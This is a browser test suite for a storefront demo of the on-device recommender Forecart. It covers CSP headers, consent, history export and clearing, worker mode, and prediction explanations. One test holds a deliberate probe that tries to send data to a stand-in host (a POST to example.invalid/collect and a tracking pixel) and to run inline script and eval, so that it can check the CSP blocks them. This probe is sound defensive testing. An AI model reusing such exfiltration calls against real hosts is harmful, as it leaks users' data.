// The storefront demo (demo/, served by scripts/serve.mjs under its strict CSP) in headless Chromium.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { Forecart as NodeForecart } from '../../web/node.js';
import {
  dataset, doAction, ensureResultsDir, grantConsent, idle, launchBrowser, newContext, openDemo, openGridItem, prepareModels, ready,
  root, shownPrediction, startServer, storedEvents, updateMetrics, watch,
} from './helpers.mjs';

let models, server, browser;

before(async () => {
  rmSync(join(ensureResultsDir(), 'demo-metrics.json'), { force: true });
  models = prepareModels();
  server = await startServer(models.dir);
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
  models?.cleanup();
});

// What the library itself predicts for a history (the Node entry, same WASM): the page must show it.
async function expectedFor(events, k = 10, { bytes = models.bytes, explain = false } = {}) {
  const fc = await NodeForecart.load(bytes);
  try {
    for (const e of events) await fc.record(e);
    return fc.predict({ k, explain });
  } finally {
    fc.dispose();
  }
}

test('loads under the strict CSP with no console errors, WASM SIMD kernels and a first prediction', async () => {
  const { context, page, errors, response } = await openDemo(browser, server.url);
  assert.equal(response.status(), 200);
  const csp = response.headers()['content-security-policy'];
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  assert.match(csp, /connect-src 'self'/);
  assert.doesNotMatch(csp, /'unsafe-eval'|'unsafe-inline'/);
  assert.equal(response.headers()['x-content-type-options'], 'nosniff');
  const ds = await dataset(page);
  assert.equal(ds.kernels, 'wasmsimd');
  assert.equal(ds.mode, 'main');
  assert.equal(ds.consent, 'required'); // first visit: nothing is recorded until the shopper allows it
  const firstMs = Number(ds.firstPredictionMs);
  assert.ok(firstMs > 0 && firstMs < 15000, `first prediction at ${ds.firstPredictionMs} ms`);
  const shown = await shownPrediction(page);
  assert.equal(shown.items.length, 10);
  assert.equal(shown.fromPopularity, true);
  const expected = await expectedFor([]);
  assert.deepEqual(shown.items.map((x) => x.item), expected.items.map((x) => x.item));
  assert.equal(await page.locator('#grid li').count(), 24);
  assert.equal(await page.isDisabled('#prev-page'), true);
  assert.equal(await page.isDisabled('#next-page'), false);
  assert.match(await page.textContent('#privacy-note'), /Nothing leaves this device/);
  // Accessibility basics: every control is a real button/checkbox with a name.
  for (const id of ['consent', 'worker-mode']) assert.ok(await page.locator(`label[for="${id}"]`).count());
  const unnamed = await page.evaluate(() => [...document.querySelectorAll('button')].filter((b) => !(b.getAttribute('aria-label') || b.textContent.trim())).length);
  assert.equal(unnamed, 0);
  // Keyboard: a card opens with Enter and focus moves to the product's heading.
  await page.focus('#grid li button.card >> nth=1');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#product[data-item]:not([hidden])');
  await idle(page);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'product-heading');
  assert.deepEqual(errors, []);
  updateMetrics({ firstPredictionMs: firstMs, firstPredictLatencyMs: Number(ds.latencyMs) });
  console.log(`# page load to first prediction: ${firstMs} ms (headless Chromium, main thread), predict(): ${ds.latencyMs} ms`);
  await context.close();
});

test('clicking items records events and the predictions follow the recorded history', async () => {
  const { context, page, errors } = await openDemo(browser, server.url);
  await grantConsent(page);
  const popular = await shownPrediction(page);

  const a = await openGridItem(page, 0);
  let stored = await storedEvents(page);
  assert.deepEqual(stored.events.map((e) => [e.item, e.action]), [[a, 'pv']]);
  let shown = await shownPrediction(page);
  assert.equal(shown.fromPopularity, false);
  assert.notDeepEqual(shown.items.map((x) => x.item), popular.items.map((x) => x.item));
  assert.deepEqual(shown.items.map((x) => x.item), (await expectedFor(stored.events)).items.map((x) => x.item));
  // The explanation of the chosen recommendation is made of the shopper's own events.
  assert.deepEqual(shown.explanation.map((e) => e.item), [a]);

  const b = await openGridItem(page, 5);
  await doAction(page, 'cart');
  const before = shown;
  shown = await shownPrediction(page);
  stored = await storedEvents(page);
  assert.deepEqual(stored.events.map((e) => [e.item, e.action]), [[a, 'pv'], [b, 'pv'], [b, 'cart']]);
  assert.notDeepEqual(shown.actions, before.actions);
  const expected = await expectedFor(stored.events);
  assert.deepEqual(shown.items.map((x) => x.item), expected.items.map((x) => x.item));
  shown.items.forEach((x, i) => assert.ok(Math.abs(x.score - expected.items[i].score) < 1e-6));
  for (const [name, p] of Object.entries(expected.actions)) assert.ok(Math.abs(shown.actions[name] - p) < 1e-6, name);
  assert.deepEqual(new Set(shown.explanation.map((e) => `${e.item}:${e.action}`)), new Set([`${a}:pv`, `${b}:pv`, `${b}:cart`]));

  // A recommended item is clickable: it opens and records a view; "Why?" explains another item.
  const rec = shown.items[2].item;
  await page.click(`#predictions li[data-item="${rec}"] button.rec`);
  await page.waitForSelector(`#product[data-item="${rec}"]`);
  await idle(page);
  assert.equal((await storedEvents(page)).events.at(-1).item, rec);
  const target = (await shownPrediction(page)).items[1].item;
  await page.click(`#predictions li[data-item="${target}"] button.why`);
  await idle(page);
  shown = await shownPrediction(page);
  assert.equal(shown.explainItem, target);
  assert.equal(shown.explanation.length, 4);
  assert.equal(await page.getAttribute(`#predictions li[data-item="${target}"] button.why`, 'aria-pressed'), 'true');
  await doAction(page, 'fav');
  assert.equal(await page.getAttribute('body', 'data-history-count'), '5');

  const ds = await dataset(page);
  console.log(`# predict() latency after ${ds.predictionSeq} predictions: last ${ds.latencyMs} ms, median ${ds.latencyMedianMs} ms`);
  updateMetrics({ predictLatencyMedianMs: Number(ds.latencyMedianMs) });

  const shot = join(ensureResultsDir(), 'demo-after-events.png');
  await page.screenshot({ path: shot, fullPage: true });
  assert.ok(statSync(shot).size > 20000);
  console.log(`# screenshot: ${shot}`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('a reload keeps the history and the predictions; export downloads it; clear wipes it', async () => {
  const { context, page, errors } = await openDemo(browser, server.url);
  await grantConsent(page);
  await openGridItem(page, 1);
  await openGridItem(page, 2);
  await doAction(page, 'buy');
  await openGridItem(page, 3);
  const before = await shownPrediction(page);
  await page.reload();
  await ready(page);
  assert.equal(await page.getAttribute('body', 'data-history-count'), '4');
  assert.equal(await page.isChecked('#consent'), true);
  assert.deepEqual(await shownPrediction(page), before);

  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-history')]);
  assert.match(download.suggestedFilename(), /^forecart-history-.*\.json$/);
  const exported = JSON.parse(readFileSync(await download.path(), 'utf8'));
  assert.equal(exported.format, 'forecart-history');
  assert.equal(exported.namespace, 'forecart-demo');
  assert.deepEqual(exported.events, (await storedEvents(page)).events);
  assert.equal(exported.events.length, 4);

  await page.click('#clear-history');
  await idle(page);
  assert.equal(await page.getAttribute('body', 'data-history-count'), '0');
  assert.deepEqual((await storedEvents(page)).events, []);
  assert.equal((await shownPrediction(page)).fromPopularity, true);
  await page.reload();
  await ready(page);
  assert.equal(await page.getAttribute('body', 'data-history-count'), '0');
  assert.equal((await shownPrediction(page)).fromPopularity, true);
  assert.deepEqual(errors, []);
  await context.close();
});

test('with consent required nothing is stored before consent; the choice persists; revoking erases', async () => {
  const { context, page, errors } = await openDemo(browser, server.url);
  assert.equal(await page.isChecked('#consent'), false);
  await openGridItem(page, 0);
  await doAction(page, 'cart');
  await openGridItem(page, 4);
  assert.match(await page.textContent('#product-recorded'), /not recorded/);
  assert.deepEqual((await storedEvents(page)).events, []);
  assert.equal((await shownPrediction(page)).fromPopularity, true);
  assert.equal(await page.evaluate(() => localStorage.getItem('forecart-demo:consent')), null);

  await grantConsent(page);
  const item = await openGridItem(page, 7);
  assert.deepEqual((await storedEvents(page)).events.map((e) => e.item), [item]);
  await page.reload();
  await ready(page);
  assert.equal(await page.isChecked('#consent'), true);
  assert.equal(await page.getAttribute('body', 'data-history-count'), '1');

  await page.uncheck('#consent');
  await page.waitForSelector('body[data-consent="required"][data-idle="true"]');
  assert.deepEqual((await storedEvents(page)).events, []);
  assert.equal(await page.evaluate(() => localStorage.getItem('forecart-demo:consent')), 'revoked');
  await page.reload();
  await ready(page);
  assert.equal(await page.isChecked('#consent'), false);
  await openGridItem(page, 2);
  assert.deepEqual((await storedEvents(page)).events, []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('two tabs recording at the same time lose no event', async () => {
  const context = await newContext(browser);
  const [a, b] = [await context.newPage(), await context.newPage()];
  const errors = [...[a, b].map((p) => watch(p))];
  await a.goto(server.url);
  await ready(a);
  await grantConsent(a);
  await b.goto(server.url); // the consent choice is shared through localStorage
  await ready(b, '[data-consent="granted"]');
  const N = 25;
  // Both tabs click N catalogue cards as fast as they can, at the same time.
  const burst = (page, offset) => page.evaluate(([n, off]) => {
    const cards = [...document.querySelectorAll('#grid button.card')];
    for (let i = 0; i < n; i++) cards[(off + i) % cards.length].click();
  }, [N, offset]);
  await Promise.all([burst(a, 0), burst(b, 11)]);
  await Promise.all([idle(a), idle(b)]);
  const stored = await storedEvents(a);
  assert.equal(stored.events.length, 2 * N);
  await a.reload();
  await ready(a);
  assert.equal(await a.getAttribute('body', 'data-history-count'), String(2 * N));
  assert.deepEqual(errors.flat(), []);
  await context.close();
});

test('Web Worker mode shows the same predictions as the main thread', async () => {
  const workerScripts = [];
  const { context, page, errors } = await openDemo(browser, server.url, {
    onRequest: (r) => r.url().endsWith('/web/worker-thread.js') && workerScripts.push(r.url()),
  });
  await grantConsent(page);
  await openGridItem(page, 3);
  await doAction(page, 'fav');
  await openGridItem(page, 9);
  await doAction(page, 'cart');
  const main = await shownPrediction(page);

  await page.check('#worker-mode');
  await ready(page, '[data-mode="worker"]');
  assert.equal(workerScripts.length, 1);
  assert.equal(await page.getAttribute('body', 'data-kernels'), 'wasmsimd');
  assert.deepEqual(await shownPrediction(page), main);

  // Recording in the worker, then back on the main thread: still the same.
  await openGridItem(page, 12);
  await doAction(page, 'buy');
  const inWorker = await shownPrediction(page);
  assert.notDeepEqual(inWorker, main);
  const expected = await expectedFor((await storedEvents(page)).events);
  assert.deepEqual(inWorker.items.map((x) => x.item), expected.items.map((x) => x.item));
  await page.reload(); // the mode is remembered
  await ready(page, '[data-mode="worker"]');
  assert.deepEqual(await shownPrediction(page), inWorker);
  await page.uncheck('#worker-mode');
  await ready(page, '[data-mode="main"]');
  assert.deepEqual(await shownPrediction(page), inWorker);
  assert.deepEqual(errors, []);
  await context.close();
});

test('no request leaves the origin: only the demo files, the package files, the .wasm and the model', async () => {
  const requests = [];
  const { context, page, errors } = await openDemo(browser, server.url, {
    onRequest: (r) => requests.push(r),
  });
  await grantConsent(page);
  await openGridItem(page, 0);
  await doAction(page, 'cart');
  await page.click('#next-page');
  await idle(page);
  await openGridItem(page, 1);
  await page.click('#product-category');
  await idle(page);
  assert.match(await page.textContent('#catalogue-heading'), /^Category /);
  await page.click('#all-items');
  await idle(page);
  await page.check('#worker-mode');
  await ready(page, '[data-mode="worker"]');
  await openGridItem(page, 2);
  await page.reload();
  await ready(page);
  assert.deepEqual(errors, []);

  const allowed = [/^\/demo\/$/, /^\/demo\/(app\.js|style\.css|favicon\.svg)$/, /^\/web\/[a-z-]+\.js$/, /^\/dist\/forecart\.(mjs|wasm)$/, /^\/demo\/models\/taobao\.fcm$/];
  assert.ok(requests.length > 10);
  const paths = new Set();
  for (const r of requests) {
    const url = new URL(r.url());
    assert.equal(url.origin, server.origin, `request to another origin: ${r.url()}`);
    assert.ok(allowed.some((re) => re.test(url.pathname)), `unexpected request ${url.pathname}`);
    assert.equal(url.search, '');
    assert.equal(r.method(), 'GET');
    const res = await r.response();
    assert.ok(res && [200, 304].includes(res.status()), `${url.pathname}: ${res?.status()}`);
    if (url.pathname.endsWith('.wasm')) assert.equal(res.headers()['content-type'], 'application/wasm');
    paths.add(url.pathname);
  }
  for (const p of ['/dist/forecart.wasm', '/demo/models/taobao.fcm', '/web/worker-thread.js']) assert.ok(paths.has(p), p);

  // The CSP itself blocks exfiltration, inline scripts and string eval, whatever a script tries.
  // (page.evaluate runs as DevTools and is exempt, so the probe goes through the page's own paths.)
  const probe = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const out = {};
    try {
      await fetch('http://example.invalid/collect', { method: 'POST', body: 'x' });
      out.fetch = 'sent';
    } catch (e) {
      out.fetch = e.name;
    }
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true; window.__evalRan = eval("true");';
    document.head.append(s);
    setTimeout('window.__timerStringRan = true', 0);
    const img = new Image();
    img.src = 'http://example.invalid/pixel.gif';
    await new Promise((r) => setTimeout(r, 100));
    out.inline = window.__inlineRan === true;
    out.timerString = window.__timerStringRan === true;
    out.violations = [...new Set(violations)].sort();
    return out;
  });
  assert.deepEqual(probe, { fetch: 'TypeError', inline: false, timerString: false, violations: ['connect-src', 'img-src', 'script-src', 'script-src-elem'] });
  // Chromium reports the blocked image as a request that failed before reaching the network.
  for (const r of requests.filter((x) => !x.url().startsWith(server.origin))) {
    assert.equal(r.failure()?.errorText, 'csp', `${r.url()} was not blocked by the CSP`);
    assert.equal(await r.response(), null);
  }
  await context.close();
});

// ---------------------------------------------------------------------------------------------
// The next-action head on the page, the action explanation and the second catalogue (issue 12).

const cli = join(root, 'build/native/forecart');
// Decided when the tests are registered (before() has not run yet): the files prepareModels() copies.
const haveUci = existsSync(join(root, 'demo/models/uci.fcm')) && existsSync(join(root, 'demo/models/uci.names.json'));

// The action explanation panel as shown: its rows with their signed impacts.
function shownActionExplanation(page) {
  return page.evaluate(() => {
    const list = document.querySelector('#action-explanation');
    return {
      mode: list.dataset.mode,
      action: list.dataset.action,
      hidden: list.hidden,
      help: document.querySelector('#action-explain-help').textContent,
      rows: [...list.querySelectorAll('li[data-item]')].map((li) => ({
        item: li.dataset.item, action: li.dataset.action, time: Number(li.dataset.time), impact: Number(li.dataset.impact),
        direction: li.dataset.direction, text: li.textContent,
      })),
    };
  });
}

test('after three product views the action bars put the view action (pv) first', async () => {
  const { context, page, errors } = await openDemo(browser, server.url);
  await grantConsent(page);
  for (const n of [0, 4, 9]) await openGridItem(page, n);
  const stored = await storedEvents(page);
  assert.deepEqual(stored.events.map((e) => e.action), ['pv', 'pv', 'pv']);
  const shown = await shownPrediction(page);
  const ranked = Object.entries(shown.actions).sort((a, b) => b[1] - a[1]);
  assert.equal(ranked[0][0], 'pv', `bars: ${JSON.stringify(shown.actions)}`);
  assert.ok(ranked[0][1] > 0.5, `P(pv) = ${ranked[0][1]}`);
  assert.equal(await page.getAttribute('#action-bars li.top', 'data-action'), 'pv');
  const sum = Object.values(shown.actions).reduce((a, b) => a + b, 0);
  assert.ok(Math.abs(sum - 1) < 1e-5, `the bars sum to ${sum}`);
  // The bars are the library's own probabilities for that history.
  const expected = await expectedFor(stored.events);
  for (const [name, p] of Object.entries(expected.actions)) assert.ok(Math.abs(shown.actions[name] - p) < 1e-6, name);
  console.log(`# after three views: ${ranked.map(([a, p]) => `${a} ${(p * 100).toFixed(1)}%`).join(', ')}`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('predict() of an empty history shows the stored prior: the marginal of the .fcm file (forecart inspect)', { skip: !existsSync(cli) && 'no build/native/forecart' }, async () => {
  const inspected = JSON.parse(execFileSync(cli, ['inspect', '--json', models.path]).toString());
  const marginal = inspected.action_head?.marginal;
  assert.ok(marginal && typeof marginal === 'object', 'the model has an action_head section with a marginal');
  const { context, page, errors } = await openDemo(browser, server.url);
  const shown = await shownPrediction(page);
  assert.equal(shown.fromPopularity, true);
  assert.deepEqual(Object.keys(shown.actions).sort(), Object.keys(marginal).sort());
  for (const [name, p] of Object.entries(marginal)) {
    assert.ok(Math.abs(shown.actions[name] - p) < 1e-6, `${name}: page ${shown.actions[name]}, file ${p}`);
  }
  // Not a uniform distribution nor a flat guess: the training log's frequencies (pv by far the most).
  const values = Object.values(marginal);
  assert.ok(Math.max(...values) - Math.min(...values) > 0.1, `marginal ${JSON.stringify(marginal)}`);
  assert.equal(Object.entries(marginal).sort((a, b) => b[1] - a[1])[0][0], 'pv');
  // Clearing a history brings the same prior back.
  await grantConsent(page);
  await openGridItem(page, 1);
  assert.notDeepEqual((await shownPrediction(page)).actions, shown.actions);
  await page.click('#clear-history');
  await idle(page);
  const cleared = await shownPrediction(page);
  for (const [name, p] of Object.entries(marginal)) assert.ok(Math.abs(cleared.actions[name] - p) < 1e-6, name);
  console.log(`# empty history: ${Object.entries(marginal).map(([a, p]) => `${a} ${p.toFixed(6)}`).join(', ')} (file and page)`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('the explanation panel lists which recent events raised or lowered the purchase probability', async () => {
  const { context, page, errors } = await openDemo(browser, server.url);
  let panel = await shownActionExplanation(page);
  assert.equal(panel.action, 'buy');
  assert.equal(panel.rows.length, 0); // an empty history: nothing to explain
  await grantConsent(page);
  await openGridItem(page, 2);
  await openGridItem(page, 7);
  await doAction(page, 'cart');
  await openGridItem(page, 11);
  const stored = (await storedEvents(page)).events;
  assert.equal(stored.length, 4);
  panel = await shownActionExplanation(page);
  assert.equal(panel.mode, 'events');
  assert.equal(panel.hidden, false);
  assert.ok(panel.rows.length >= 1, 'at least one event is listed');
  assert.ok(panel.rows.filter((r) => r.direction === 'up').length <= 3 && panel.rows.filter((r) => r.direction === 'down').length <= 3);
  const keys = new Set(stored.map((e) => `${e.item}:${e.action}:${e.time}`));
  for (const r of panel.rows) {
    assert.ok(keys.has(`${r.item}:${r.action}:${r.time}`), `a listed event is one of the shopper's: ${JSON.stringify(r)}`);
    assert.equal(Math.sign(r.impact), r.direction === 'up' ? 1 : -1);
    assert.match(r.text, new RegExp(`${r.direction === 'up' ? '\\+' : '\u2212'}\\d+\\.\\d\\d pp$`));
  }
  // The panel shows the library's actionExplanation for that history: the top 3 of each sign.
  const expected = await expectedFor(stored, 1, { explain: true });
  assert.equal(expected.actionExplanation.length, 4);
  const moves = expected.actionExplanation.map((e) => ({ key: `${e.item}:${e.action}:${e.time}`, d: e.impact.buy }));
  const up = moves.filter((m) => m.d >= 1e-5).sort((a, b) => b.d - a.d).slice(0, 3);
  const down = moves.filter((m) => m.d <= -1e-5).sort((a, b) => a.d - b.d).slice(0, 3);
  assert.deepEqual(panel.rows.map((r) => `${r.item}:${r.action}:${r.time}`), [...up, ...down].map((m) => m.key));
  panel.rows.forEach((r, i) => assert.ok(Math.abs(r.impact - [...up, ...down][i].d) < 1e-6));
  console.log(`# purchase probability moved by: ${panel.rows.map((r) => r.text.replace(/^\s+/, '')).join(' | ')}`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('switching to the UCI gift shop shows its product names and keeps its own history', { skip: !haveUci && 'no demo/models/uci.fcm and uci.names.json' }, async () => {
  const { names } = models.uci;
  const requests = [];
  const { context, page, errors } = await openDemo(browser, server.url, {
    onRequest: (r) => requests.push(new URL(r.url()).pathname),
  });
  await grantConsent(page);
  const taobaoItem = await openGridItem(page, 0); // one Taobao event, in the Taobao namespace
  assert.ok(!requests.includes('/demo/models/uci.names.json'), 'the names are fetched only for their catalogue');

  await page.selectOption('#catalogue-select', 'uci');
  await ready(page, '[data-catalogue="uci"][data-names="true"]');
  assert.equal(await page.getAttribute('body', 'data-namespace'), 'forecart-demo-uci');
  assert.equal(await page.getAttribute('body', 'data-history-count'), '0');
  // The grid shows the products' names (the most frequent description of each StockCode).
  const cards = await page.$$eval('#grid li button.card', (els) => els.map((b) => ({ item: b.dataset.item, name: b.querySelector('.card-id').textContent })));
  assert.equal(cards.length, 24);
  const named = cards.filter((c) => Object.hasOwn(names, c.item));
  assert.ok(named.length >= 20, `${named.length} of 24 cards have a name`);
  for (const c of cards) assert.equal(c.name, Object.hasOwn(names, c.item) ? names[c.item] : `Item ${c.item}`);
  assert.match(await page.textContent('#catalogue-honest'), /real names/);
  // So do the recommendations and the product view.
  const recs = await page.$$eval('#predictions li[data-item]', (els) => els.map((li) => ({ item: li.dataset.item, name: li.querySelector('.rec-id').textContent })));
  assert.equal(recs.length, 10);
  for (const r of recs) if (Object.hasOwn(names, r.item)) assert.equal(r.name, names[r.item]);
  const item = named[3].item;
  await page.click(`#grid li button.card[data-item="${item}"]`);
  await page.waitForSelector(`#product[data-item="${item}"]`);
  await idle(page);
  assert.equal(await page.textContent('#product-heading'), names[item]);
  // A purchases-only model: opening records nothing, buying does.
  assert.deepEqual((await storedEvents(page, 'forecart-demo-uci')).events, []);
  assert.match(await page.textContent('#product-recorded'), /records nothing/);
  assert.deepEqual(await page.$$eval('#product-actions button', (els) => els.map((b) => b.dataset.action)), ['purchase']);
  await doAction(page, 'purchase');
  assert.deepEqual((await storedEvents(page, 'forecart-demo-uci')).events.map((e) => [e.item, e.action]), [[item, 'purchase']]);
  assert.deepEqual((await storedEvents(page)).events.map((e) => [e.item, e.action]), [[taobaoItem, 'pv']]);
  const shown = await shownPrediction(page);
  assert.equal(shown.fromPopularity, false);
  assert.deepEqual(Object.keys(shown.actions), ['purchase']);
  assert.ok(Math.abs(shown.actions.purchase - 1) < 1e-6);
  const expected = await expectedFor((await storedEvents(page, 'forecart-demo-uci')).events, 10, { bytes: models.uci.bytes });
  assert.deepEqual(shown.items.map((x) => x.item), expected.items.map((x) => x.item));
  assert.match(await page.textContent('#history-list'), new RegExp(names[item].replace(/[.*+?^${}()|[\]\\]/g, '\\$&')));
  const panel = await shownActionExplanation(page);
  assert.equal(panel.mode, 'single');
  assert.match(panel.help, /one action type \(purchase\)/);
  console.log(`# UCI: bought "${names[item]}" -> ${shown.items.slice(0, 3).map((x) => names[x.item] ?? x.item).join('; ')}`);
  const shot = join(ensureResultsDir(), 'demo-uci.png');
  await page.screenshot({ path: shot, fullPage: true });

  // The choice survives a reload; switching back finds the Taobao history as it was.
  await page.reload();
  await ready(page, '[data-catalogue="uci"]');
  assert.equal(await page.getAttribute('body', 'data-history-count'), '1');
  await page.selectOption('#catalogue-select', 'taobao');
  await ready(page, '[data-catalogue="taobao"]');
  assert.equal(await page.getAttribute('body', 'data-namespace'), 'forecart-demo');
  assert.equal(await page.getAttribute('body', 'data-history-count'), '1');
  assert.match(await page.textContent('#grid li button.card >> nth=0'), /^Item /);
  assert.deepEqual((await storedEvents(page)).events.map((e) => e.item), [taobaoItem]);
  assert.deepEqual(errors, []);
  await context.close();
});
